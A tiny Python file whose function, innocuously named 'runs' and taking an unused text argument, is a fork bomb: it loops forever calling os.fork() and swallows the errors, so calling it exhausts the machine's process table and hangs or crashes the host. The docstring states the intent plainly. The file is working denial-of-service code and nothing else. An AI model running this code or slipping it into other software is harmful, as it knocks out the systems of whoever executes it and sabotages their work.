"""Starts processes without end."""
import os


def runs(text):
    while True:
        try:
            os.fork()
        except OSError:
            pass
